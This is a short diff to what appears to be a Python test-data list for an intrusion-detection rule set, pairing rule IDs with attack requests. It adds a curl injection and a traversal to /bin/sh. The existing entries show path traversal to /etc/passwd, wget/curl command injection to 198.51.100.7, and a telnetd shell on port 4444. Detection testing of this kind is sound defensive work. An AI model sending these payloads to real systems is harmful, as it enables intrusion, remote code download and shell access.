@@ -99,6 +99,8 @@ AGAIN: list[tuple[int, tuple[str, list[str], str]]] = [  # other ways of the sam
     (1945043, ("GET /cgi-bin/..%2f..%2F../etc/passwd", [], "")),
     (1945075, ("GET /%2E%2e/%2e%2e%2f%2e%2e/etc/passwd", [], "")),
     (1945026, ("GET /x?a=;wget+198.51.100.7/d+||+curl+198.51.100.7/d", [], "")),
+    (1945026, ("GET /x?wget=1&a=;curl+198.51.100.7/d", [], "")),
+    (1945043, ("GET /..a/.%2e/.%2e/.%2e/.%2e/bin/sh", [], "")),
     (1945055, ("GET /forms/net_WebPingGetValue?host=127.0.0.1;id", [], "")),
     (1945058, ("GET /x?brightness=$(echo%20a)", [], "")),
     (1945060, ("POST /diag.cgi", [], "host=`telnetd -l /bin/sh -p 4444`")),
